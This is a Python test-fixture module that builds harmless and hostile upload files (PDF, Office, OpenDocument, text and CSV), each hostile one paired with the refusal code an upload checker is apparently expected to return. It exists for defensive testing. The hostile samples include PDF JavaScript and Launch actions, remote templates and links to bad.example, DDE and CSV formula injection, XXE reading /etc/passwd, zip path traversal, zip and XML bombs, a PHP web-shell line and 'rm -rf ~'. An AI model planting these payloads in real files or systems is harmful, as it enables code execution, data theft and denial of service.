"""Files that somebody may send to be downloaded by others: good ones, and those that carry, hide or break something."""

import io
import random
import struct
import zipfile
import zlib

import openpyxl

from tests.members.pictures import drawn, saved

# --- PDF ---------------------------------------------------------------------------------------------------------


def pdf(*objects, head=b"%PDF-1.7\n", trailer=b"", tail=b""):
    """A PDF of one page, with further objects (bodies without "obj")."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + trailer + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        stream(b"BT /F1 12 Tf 20 100 Td (A worksheet) Tj ET"),
        *objects,
    ]
    out, places = head, []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, len(out))
    return out + table + end + tail


def stream(data, entries=b""):
    """A stream with its dictionary."""
    return b"<< /Length %d %s >>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def packed(data, entries=b""):
    """A stream that is compressed."""
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + entries)


def bomb(megabytes):
    """So many megabytes of nothing, compressed."""
    packer = zlib.compressobj(9)
    piece = b"\0" * 1024 * 1024
    return b"".join(packer.compress(piece) for _n in range(megabytes)) + packer.flush()


# --- archives ----------------------------------------------------------------------------------------------------

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
OVERRIDE = '<Override PartName="/{}" ContentType="application/vnd.openxmlformats-officedocument.{}.main+xml"/>'
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
    "</Relationships>"
)
MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}
MANIFEST = '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">{}</m:manifest>'
ODF_TYPE = "application/vnd.oasis.opendocument.{}"


def relation(kind, target, mode=""):
    """One relationship of a part."""
    address = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return f'<Relationship Id="r1" Type="{address}" Target="{target}"{f" TargetMode={chr(34)}{mode}{chr(34)}" if mode else ""}/>'


def archive(parts, *, stored=("mimetype",), **options):
    """A ZIP archive of {name: content}."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content, compress_type=zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
        made.comment = options.get("comment", b"")
    return out.getvalue()


def office(kind, **parts):
    """A small DOCX, XLSX or PPTX; `parts` are added or put in place of others, with "/" and "." as they are."""
    main, name = MAIN[kind]
    return archive(
        {
            "[Content_Types].xml": TYPES.format(OVERRIDE.format(main, name)),
            "_rels/.rels": RELATIONS.format(relation("officeDocument", main)),
            main: "<w:document xmlns:w='w'><w:body><w:p><w:r><w:t>A worksheet</w:t></w:r></w:p></w:body></w:document>",
            **parts.get("parts", {}),
        },
        comment=parts.get("comment", b""),
    )


def odf(name="text", **parts):
    """A small ODT, ODS or ODP."""
    return archive(
        {
            "mimetype": ODF_TYPE.format(name),
            "content.xml": "<o:document-content xmlns:o='o'><t>A worksheet</t></o:document-content>",
            "META-INF/manifest.xml": MANIFEST.format(""),
            **parts.get("parts", {}),
        }
    )


def spreadsheet():
    """What openpyxl writes."""
    book, out = openpyxl.Workbook(), io.BytesIO()
    sheet = book.active
    sheet.append(["Year", "Apprentices"])
    sheet.append([2021, 12])
    sheet["C2"] = "=SUM(B2:B2)"
    sheet["A4"].hyperlink = "https://school.example/"
    book.save(out)
    return out.getvalue()


def good_files():
    """{name: (bytes, ending under which it is kept)} of files that have to be taken."""
    text = "Grüße aus der Tischlerei\nŽivjo, γειά σας, مرحبا\n"
    picture = saved(drawn(), "PNG")
    return {
        "plain.pdf": (pdf(), "pdf"),
        "old.pdf": (pdf(head=b"%PDF-1.4\r\n%\xe2\xe3\xcf\xd3\r\n"), "pdf"),
        "new.pdf": (pdf(head=b"%PDF-2.0\n"), "pdf"),
        "packed.pdf": (pdf(packed(b"0 0 m 10 10 l S " * 5000)), "pdf"),
        "objects.pdf": (pdf(packed(b"7 0 << /Type /Font /Name /JSmith >> ", b"/Type /ObjStm /N 1 /First 4 ")), "pdf"),
        "links.pdf": (pdf(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://school.example/) >> >>"), "pdf"),
        "opens on page two.pdf": (pdf(trailer=b"/OpenAction [3 0 R /Fit]"), "pdf"),
        "scan.pdf": (pdf(stream(saved(drawn(), "JPEG"), b"/Subtype /Image /Filter /DCTDecode ")), "pdf"),
        "padded.pdf": (pdf(tail=b"\r\n\0\0"), "pdf"),
        "no ending": (pdf(), "pdf"),
        "named as text.txt": (pdf(), "pdf"),
        "plain.docx": (office("docx"), "docx"),
        "picture.docx": (office("docx", parts={"word/media/image1.png": picture}), "docx"),
        "link.docx": (
            office("docx", parts={"word/_rels/document.xml.rels": RELATIONS.format(
                relation("hyperlink", "https://school.example/", "External"))}), "docx",
        ),
        "slides.pptx": (office("pptx"), "pptx"),
        "chart.pptx": (office("pptx", parts={"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": spreadsheet()}), "pptx"),
        "table.xlsx": (spreadsheet(), "xlsx"),
        "printed.xlsx": (office("xlsx", parts={"xl/printerSettings/printerSettings1.bin": b"P\0r\0"}), "xlsx"),
        "text.odt": (odf(parts={"Thumbnails/thumbnail.png": picture, "Configurations2/toolbar/": ""}), "odt"),
        "table.ods": (odf("spreadsheet", parts={"Object 1/content.xml": "<chart/>"}), "ods"),
        "slides.odp": (odf("presentation"), "odp"),
        "words.txt": (text.encode(), "txt"),
        "marked.txt": (b"\xef\xbb\xbf" + text.encode(), "txt"),
        "wide.txt": (text.encode("utf-16"), "txt"),
        "old.txt": ("Grüße, één".encode("latin-1"), "txt"),
        "a < b.txt": (b"If a < b then plane it.", "txt"),
        "numbers.csv": (b"year;people;change\n2021;12;-3,5\n2022;15;+2\n", "csv"),
        "quoted.csv": (b'name,"said, and meant"\nA,"-"\nB,-4%\n', "csv"),
    }  # fmt: skip


def _hostile_pdfs():
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
    hidden = b"7 0 " + action
    big = pdf(*[stream(bomb(90), b"/Filter /FlateDecode ") for _n in range(4)])
    return {
        "javascript.pdf": (pdf(action, trailer=b"/OpenAction 5 0 R"), "active"),
        "written otherwise.pdf": (pdf(b"<< /S /J#61v#61Script /#4aS (app.alert(1)) >>"), "active"),
        "in packed objects.pdf": (pdf(packed(hidden, b"/Type /ObjStm /N 1 /First 4 ")), "active"),
        "in packed objects that deny it.pdf": (pdf(packed(hidden, b"/Type /XObject ")), "active"),
        "in twice packed objects.pdf": (
            pdf(stream(zlib.compress(hidden).hex().encode(), b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] ")),
            "active",
        ),
        "within a stream.pdf": (pdf(stream(b"9 0 obj " + action + b" endobj")), "active"),
        "far within a stream.pdf": (pdf(packed(b" " * 3_000_000 + hidden, b"/Type /ObjStm ")), "active"),
        "on the edge of a piece.pdf": (pdf(packed(b" " * (1024 * 1024 - 7) + hidden)), "active"),
        "launch.pdf": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "active"),
        "file within.pdf": (pdf(stream(b"MZ", b"/Type /EmbeddedFile "), trailer=b"/Names << /EmbeddedFiles 6 0 R >>"), "active"),
        "film.pdf": (pdf(b"<< /Subtype /RichMedia >>"), "active"),
        "rendition.pdf": (pdf(b"<< /S /Rendition /JS (x) >>"), "active"),
        "sends.pdf": (pdf(b"<< /S /SubmitForm /F (https://bad.example/) >>"), "active"),
        "imports.pdf": (pdf(b"<< /S /ImportData /F (x.fdf) >>"), "active"),
        "leads to a file.pdf": (pdf(b"<< /S /GoToR /F (\\\\\\\\bad.example\\\\share) >>"), "active"),
        "leads to a file within.pdf": (pdf(b"<< /S /GoToE >>"), "active"),
        "xfa.pdf": (pdf(trailer=b"/AcroForm << /XFA [(template) 5 0 R] >>"), "active"),
        "javascript address.pdf": (pdf(b"<< /S /URI /URI (javascript:alert(1)) >>"), "active"),
        "locked.pdf": (pdf(trailer=b"/Encrypt 5 0 R"), "encrypted"),
        "only a head.pdf": (b"%PDF-1.7\n", "damaged"),
        "unknown version.pdf": (pdf(head=b"%PDF-9.9\n"), "damaged"),
        "cut.pdf": (pdf()[:-60], "damaged"),
        "no table.pdf": (b"%PDF-1.4\n1 0 obj << >> endobj\n%%EOF", "damaged"),
        "archive behind.pdf": (pdf(tail=archive({"x.html": "<script>1</script>"})), "two_in_one"),
        "page behind.pdf": (pdf(tail=b"<html><script>alert(1)</script></html>"), "two_in_one"),
        "program behind.pdf": (pdf(tail=b"MZ" + b"\x90" * 300), "two_in_one"),
        "page within.pdf": (pdf(stream(b"<script>alert(1)</script>")), "two_in_one"),
        "page before.pdf": (b"<html><script>alert(1)</script><!--" + pdf(), "two_in_one"),
        "picture before.pdf": (saved(drawn(), "GIF") + pdf(), None),
        "line before.pdf": (b"\n" + pdf(), "two_in_one"),
        "bomb.pdf": (big, "bomb"),
    }  # fmt: skip


def _hostile_archives():
    docx, odt = office("docx"), odf()
    ole, program = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, b"MZ" + b"\x90" * 500
    external = "word/_rels/document.xml.rels"

    def leads(kind, target, name=external):
        return office("docx", parts={name: RELATIONS.format(relation(kind, target, "External"))})

    def with_part(name, content="x"):
        return office("docx", parts={name: content})

    laughs = "<!DOCTYPE x [<!ENTITY a 'ha'>{}]><x>&i;</x>".format(
        "".join(f"<!ENTITY {new} '{f'&{old};' * 10}'>" for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    )
    return {
        "archive.zip": (archive({"a.txt": "x"}), "type"),
        "archive.docx": (archive({"a.txt": "x"}), "type"),
        "program library.docx": (archive({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}), "type"),
        "book.odt": (archive({"mimetype": "application/epub+zip", "content.xml": "<x/>"}), "type"),
        "template.odt": (archive({"mimetype": ODF_TYPE.format("text-template"), "content.xml": "<x/>"}), "type"),
        "macros.docx": (with_part("word/vbaProject.bin", ole), "active"),
        "macros under another name.docx": (with_part("word/media/image1.png", ole), "active"),
        "macros by type.docx": (
            office("docx", parts={"[Content_Types].xml": TYPES.format(
                '<Override PartName="/w" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')}), "active",
        ),
        "old macros.xlsx": (office("xlsx", parts={"xl/macrosheets/sheet1.xml": "<x/>"}), "active"),
        "object.docx": (with_part("word/embeddings/oleObject1.bin", ole), "active"),
        "control.docx": (with_part("word/activeX/activeX1.xml", "<x/>"), "active"),
        "program within.pptx": (office("pptx", parts={"ppt/media/film.mp4": program}), "active"),
        "script within.docx": (with_part("word/run.js", "alert(1)"), "active"),
        "page within.docx": (with_part("word/afchunk.html", "<script>1</script>"), "active"),
        "archive within.docx": (with_part("word/embeddings/x.zip", archive({"a": "b"})), "active"),
        "macros in a table within.pptx": (
            office("pptx", parts={"ppt/embeddings/a.xlsx": office("xlsx", parts={"xl/vbaProject.bin": ole})}), "active"),
        "tables within tables.pptx": (
            office("pptx", parts={"ppt/embeddings/a.xlsx": office("xlsx", parts={"xl/embeddings/b.xlsx": spreadsheet()})}),
            "active"),
        "template from elsewhere.docx": (leads("attachedTemplate", "http://bad.example/x.dotm", "word/_rels/settings.xml.rels"), "active"),
        "picture from elsewhere.docx": (leads("image", "http://bad.example/pixel.png"), "active"),
        "object from elsewhere.docx": (leads("oleObject", "http://bad.example/x.html!"), "active"),
        "frame from elsewhere.docx": (leads("frame", "file://bad.example/share"), "active"),
        "program link.docx": (leads("hyperlink", "javascript:alert(1)"), "active"),
        "file link.docx": (leads("hyperlink", "file:///c:/windows/system32/cmd.exe"), "active"),
        "links to another.xlsx": (office("xlsx", parts={"xl/externalLinks/externalLink1.xml": "<x/>"}), "active"),
        "relations in wide letters.docx": (
            office("docx", parts={external: RELATIONS.replace('version="1.0"', 'version="1.0" encoding="UTF-16"').format(
                relation("attachedTemplate", "http://bad.example/x", "External")).encode("utf-16")}), "active"),
        "dde.docx": (with_part("word/header1.xml", "<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd</w:instrText>"), "active"),
        "dde.xlsx": (office("xlsx", parts={"xl/worksheets/sheet1.xml": "<c><f>cmd|'/c calc'!A0</f></c>"}), "active"),
        "webservice.xlsx": (office("xlsx", parts={"xl/worksheets/s.xml": '<f>WEBSERVICE("http://bad.example")</f>'}), "active"),
        "laughs.docx": (with_part("word/document2.xml", laughs), "active"),
        "laughing relations.docx": (with_part("word/_rels/x.xml.rels", laughs), "active"),
        "file by entity.docx": (with_part("docProps/x.xml", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'), "active"),
        "drawing with a program.docx": (with_part("word/media/i.svg", "<svg onload='alert(1)'/>"), "active"),
        "out of the folder.docx": (with_part("../../etc/cron.d/x.xml"), "two_in_one"),
        "from the root.docx": (with_part("/etc/x.xml"), "two_in_one"),
        "windows way out.docx": (with_part("word\\..\\..\\x.xml").replace(b"word/..", b"word\\.."), "two_in_one"),
        "drive.docx": (with_part("c:/x.xml"), "two_in_one"),
        "twice the same.docx": (_twice(docx), "two_in_one"),
        "comment.docx": (office("docx", comment=b"<script>alert(1)</script>"), "two_in_one"),
        "behind the archive.docx": (docx + b"<html><script>alert(1)</script>", None),
        "before the archive.docx": (b"PK\x03\x04" + b"\0" * 200 + docx, None),
        "between the parts.docx": (_with_gap(docx), "two_in_one"),
        "another name inside.docx": (docx.replace(b"_rels/.rels", b"_rels/.relx", 1), "two_in_one"),
        "wrong sum.docx": (_with_wrong_sum(docx), "damaged"),
        "cut.docx": (docx[: len(docx) // 2], "damaged"),
        "without its end.docx": (docx[:-22], "damaged"),
        "locked.docx": (_locked(docx), "encrypted"),
        "unknown packing.docx": (_repacked(docx, 99), "type"),
        "bomb.docx": (with_part("word/big.xml", b" " * 90_000_000), "bomb"),
        "more bombs.docx": (office("docx", parts={f"word/{n}.xml": b" " * 400_000 for n in range(400)}), "bomb"),
        "lying bomb.docx": (_lying(with_part("word/big.xml", b" " * 50_000_000), 50_000_000), "bomb"),
        "very many parts.docx": (archive({f"word/{n}.xml": "" for n in range(4000)}), "bomb"),
        "parts that overlap.docx": (_overlapping(docx), "two_in_one"),
        "macros.odt": (odf(parts={"Basic/Standard/Module1.xml": "<x/>"}), "active"),
        "python.odt": (odf(parts={"Scripts/python/x.py": "import os"}), "active"),
        "event.odt": (odf(parts={"content.xml": "<script:event-listener xlink:href='vnd.sun.star.script:x'/>"}), "active"),
        "object.odt": (odf(parts={"Object 1": ole}), "active"),
        "applet.odt": (odf(parts={"content.xml": "<draw:applet/>"}), "active"),
        "dde.ods": (odf("spreadsheet", parts={"content.xml": "<office:dde-source/>"}), "active"),
        "share.odt": (odf(parts={"content.xml": '<draw:image xlink:href="file://bad.example/x.png"/>'}), "active"),
        "locked.odt": (odf(parts={"META-INF/manifest.xml": MANIFEST.format("<m:encryption-data/>")}), "encrypted"),
        "no list.odt": (archive({"mimetype": ODF_TYPE.format("text"), "content.xml": "<x/>"}), "damaged"),
        "picture before.odt": (saved(drawn(), "JPEG") + odt, None),
    }  # fmt: skip


def _hostile_texts():
    return {
        "empty.txt": (b"", "empty"),
        "page.txt": (b"<!doctype html><script>alert(1)</script>", "two_in_one"),
        "page.html": (b"<html><script>alert(1)</script>", "type"),
        "drawing.svg": (b'<svg xmlns="x" onload="alert(1)"/>', "type"),
        "drawing.txt": (b'\xef\xbb\xbf <svg xmlns="x" onload="alert(1)"/>', "two_in_one"),
        "data.xml": (b"<?xml version='1.0'?><x/>", "type"),
        "data.txt": (b"<?xml version='1.0'?><x/>", "two_in_one"),
        "page in the middle.txt": (b"Words\n" * 500 + b"<script>alert(1)</script>", "two_in_one"),
        "wide page.txt": ("Hello <script>alert(1)</script>".encode("utf-16"), "two_in_one"),
        "program.txt": (b"MZ" + b"\x90\x00" * 400, "type"),
        "program.exe": (b"MZ" + b"\x90\x00" * 400, "type"),
        "program.pdf.exe": (pdf(), "type"),
        "linux program.txt": (b"\x7fELF" + b"\1" * 300, "type"),
        "script.txt": (b"#!/bin/sh\nrm -rf ~\n", "type"),
        "script.bat": (b"@echo off\r\ndel *", "type"),
        "script.js": (b"alert(1)", "type"),
        "server page.txt": (b"Hello <?php system($_GET[0]);", "two_in_one"),
        "rich.txt": (b"{\\rtf1 \\object}", "type"),
        "postscript.txt": (b"%!PS\n(x) run", "type"),
        "word of old.txt": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "type"),
        "packed.txt": (b"\x1f\x8b\x08" + b"\0" * 50, "type"),
        "chance.txt": (random.Random(3).randbytes(4000), "type"),
        "zeros.txt": (b"\0" * 4000, "type"),
        "formula.csv": (b"name,value\n=cmd|'/c calc'!A0,1\n", "formula"),
        "link formula.csv": (b'a,"=HYPERLINK(""http://bad.example"")"\n', "formula"),
        "sum.csv": (b"a;b\n@SUM(1+1);2\n", "formula"),
        "sign.csv": (b"a,b\n+cmd|' /C calc'!A0,2\n", "formula"),
        "tab.csv": (b"a,\t=1+1\n", "formula"),
        "too heavy.txt": (b"a" * (20 * 1024 * 1024 + 1), "too_large"),
        "half a letter.txt": (b"\xef\xbb\xbfabc\xff\xfe", "damaged"),
        "odd.txt": (b"\xff\xfea", "damaged"),
        "late document.txt": (b"Read this: " + pdf(), "two_in_one"),
        "archive in text.txt": (b"Read this: " + archive({"a": "b"}), None),
    }


def hostile_files():
    """{name: (bytes, code of the refusal, or None where any will do)} of files that must not be taken."""
    return {**_hostile_pdfs(), **_hostile_archives(), **_hostile_texts()}


# --- archives that lie -------------------------------------------------------------------------------------------


def _twice(data):
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("Word/Document.xml", "<x/>")
    return out.getvalue()


def _directory(data):
    """Where the directory begins."""
    return struct.unpack("<I", data[-6:-2])[0]


def _with_gap(data):
    """The first part is followed by something that no part holds."""
    at = data.index(b"PK\x03\x04", 4)
    gap = b"<html><script>alert(1)</script></html>"
    directory = _directory(data)
    moved = bytearray(data[:at] + gap + data[at:])
    end = directory + len(gap)
    struct.pack_into("<I", moved, len(moved) - 6, end)
    place = moved.find(b"PK\x01\x02", end)
    while place >= 0:
        offset = struct.unpack_from("<I", moved, place + 42)[0]
        if offset:
            struct.pack_into("<I", moved, place + 42, offset + len(gap))
        place = moved.find(b"PK\x01\x02", place + 4)
    return bytes(moved)


def _patched(data, offset, kind, value, which=0):
    """The directory's entry number `which`, with another value."""
    made, place = bytearray(data), _directory(data)
    for _n in range(which):
        place = made.find(b"PK\x01\x02", place + 4)
    struct.pack_into(kind, made, place + offset, value)
    return bytes(made)


def _with_wrong_sum(data):
    return _patched(data, 16, "<I", 12345)


def _locked(data):
    return _patched(data, 8, "<H", 1)


def _repacked(data, method):
    return _patched(data, 10, "<H", method)


def _overlapping(data):
    """Two entries of the directory lead to the same part."""
    place = data.find(b"PK\x01\x02", _directory(data) + 4)
    made = bytearray(data)
    struct.pack_into("<I", made, place + 42, 0)
    return bytes(made)


def _lying(data, size):
    """Both heads of the last part tell of a thousandth of its size."""
    return data.replace(struct.pack("<I", size), struct.pack("<I", size // 1000))
